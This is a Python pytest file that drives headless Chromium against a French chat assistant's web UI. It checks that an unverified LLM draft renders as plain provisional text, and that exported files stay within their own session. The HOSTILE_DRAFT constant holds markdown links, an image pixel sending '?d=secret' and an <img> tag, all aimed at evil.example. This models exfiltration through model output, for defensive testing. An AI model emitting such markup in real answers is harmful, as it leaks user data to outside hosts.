"""Page-level attacks in a real headless Chromium: an unverified LLM draft that carries a link, an image
and a planted answer is shown as provisional plain text, and nothing in it is clickable or loaded."""

from __future__ import annotations

import dataclasses
import re
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from assistant.types import Answer, AnswerEvent, Citation
from tests.ui_fixtures.browser import chromium, french_page
from tests.ui_fixtures.fakes import PASSAGES, fake_documents, fake_ingest, fake_neighbours
from tests.ui_fixtures.server import running
from ui.app import build_app
from vectorstore.settings import Settings

HOSTILE_DRAFT = (
    "PWNED. Voir [le site](http://evil.example/phish) et ![pixel](http://evil.example/p.png?d=secret) "
    "ou <http://evil.example/auto> ou https://evil.example/bare <img src=http://evil.example/i.png> fin."
)
VERIFIED = "Les acteurs de l'ESS proposent un nouveau pacte économique et social."


def hostile_llm(question: str, history=None, **kwargs) -> Iterator[AnswerEvent]:
    """Streams a hostile draft slowly, then the verified answer that replaces it."""
    for word in re.findall(r"\S+\s*", HOSTILE_DRAFT):
        time.sleep(0.12)
        yield AnswerEvent(kind="token", text=word)
    time.sleep(1.5)
    cite = Citation(1, PASSAGES[0], VERIFIED)
    yield AnswerEvent(kind="final", answer=Answer(text=f"{VERIFIED} [1]", citations=[cite], mode="llm"))


@pytest.fixture(scope="module")
def app_url(tmp_path_factory):
    settings = dataclasses.replace(Settings.from_env(), index_dir=tmp_path_factory.mktemp("index"))
    with running(build_app(hostile_llm, fake_ingest, fake_neighbours, fake_documents, settings)) as url:
        yield url


def test_an_unverified_draft_is_provisional_plain_text(app_url):
    with chromium() as browser:
        page = french_page(browser)
        elsewhere: list[str] = []
        page.on("request", lambda r: None if r.url.startswith(app_url) else elsewhere.append(r.url))
        page.goto(app_url)
        page.locator("#ess-question textarea").fill("Que proposent les acteurs ?")
        page.locator("#ess-send").click()
        chat = page.locator("#ess-chat")
        expect(chat).to_contain_text("fin.", timeout=20_000)  # the whole draft is on screen
        expect(chat).to_contain_text("Brouillon en cours de vérification")
        expect(chat).to_contain_text("PWNED")
        bubble = chat.locator("[data-testid='bot']").last
        assert bubble.locator("a").count() == 0 and bubble.locator("img").count() == 0
        assert "evil.example" not in bubble.inner_text()
        expect(chat).to_contain_text(VERIFIED, timeout=20_000)
        expect(chat).not_to_contain_text("PWNED")
        expect(chat).not_to_contain_text("Brouillon")
        page.context.close()
    assert elsewhere == [], f"the page called other hosts: {elsewhere}"


def test_an_export_is_served_to_its_own_session_only(app_url):
    with chromium() as browser:
        mine, other = french_page(browser), french_page(browser)  # two contexts: two sessions
        mine.goto(app_url)
        other.goto(app_url)
        mine.locator("#ess-question textarea").fill("Que proposent les acteurs ?")
        mine.locator("#ess-send").click()
        expect(mine.locator("#ess-chat")).to_contain_text(VERIFIED, timeout=30_000)
        mine.locator("#ess-export").click()
        link = mine.locator("#ess-export-file a").first
        expect(link).to_be_visible(timeout=10_000)
        href = link.get_attribute("href")
        assert href and "/file=" in href
        url = href if href.startswith("http") else app_url.rstrip("/") + "/" + href.lstrip("/")
        assert mine.request.get(url).status == 200
        assert other.request.get(url).status == 404
        mine.context.close()
        other.context.close()
